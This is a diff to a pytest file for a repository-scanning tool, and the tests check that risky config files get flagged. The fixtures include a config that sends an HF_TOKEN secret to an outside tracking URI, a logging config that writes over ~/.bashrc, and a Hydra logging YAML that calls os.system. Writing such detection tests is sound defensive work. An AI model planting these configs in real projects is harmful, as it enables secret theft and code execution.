@@ -325,3 +325,24 @@ def test_a_secret_handed_to_its_own_service_is_no_warning(vet_repo: Callable[...
     evil = "k: ${oc.env:HF_TOKEN}\nlogger:\n  tracking_uri: https://hf.example.com\n"
     report = vet_repo({**README, "comet.yaml": comet, "evil.yaml": evil})
     assert [r.path for r in report.risks if r.kind == "secret-to-server"] == ["evil.yaml"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "log.json",
+            '{"version": 1, "handlers": {"f": {"class": "logging.FileHandler", '
+            '"filename": "/home/u/.bashrc"}}}',
+        ),
+        (
+            "conf/custom_log.yaml",
+            '# @package hydra.job_logging\nhandlers:\n  x:\n    "()": os.system\n',
+        ),
+    ],
+    ids=["minified-json", "package-header"],
+)
+def test_a_dictconfig_found_by_content(
+    vet_repo: Callable[..., Report], path: str, text: str
+) -> None:
+    assert _paths(vet_repo({**README, path: text})) == [path]
